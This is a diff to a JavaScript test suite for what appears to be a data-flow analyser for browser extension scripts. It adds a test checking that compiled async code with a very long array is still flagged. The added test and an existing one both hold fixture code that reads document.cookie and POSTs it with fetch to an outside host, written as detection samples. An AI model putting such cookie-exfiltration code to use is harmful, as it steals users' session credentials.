@@ -55,6 +55,11 @@ describe('compiled async functions', () => {
     assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
   });
 
+  it('are read with lists longer than a call takes arguments', () => {
+    const code = `_asyncToGenerator(function* () { const l = [${'0,'.repeat(200_000)}]; fetch('https://in.gather.dev/', { method: 'POST', body: yield document.cookie }) })()`;
+    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
+  });
+
   it('leave calls alone that only look like them', () => {
     const code = `co(function* () { fetch('https://in.gather.dev/', { method: 'POST', body: document.cookie }) })`;
     assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
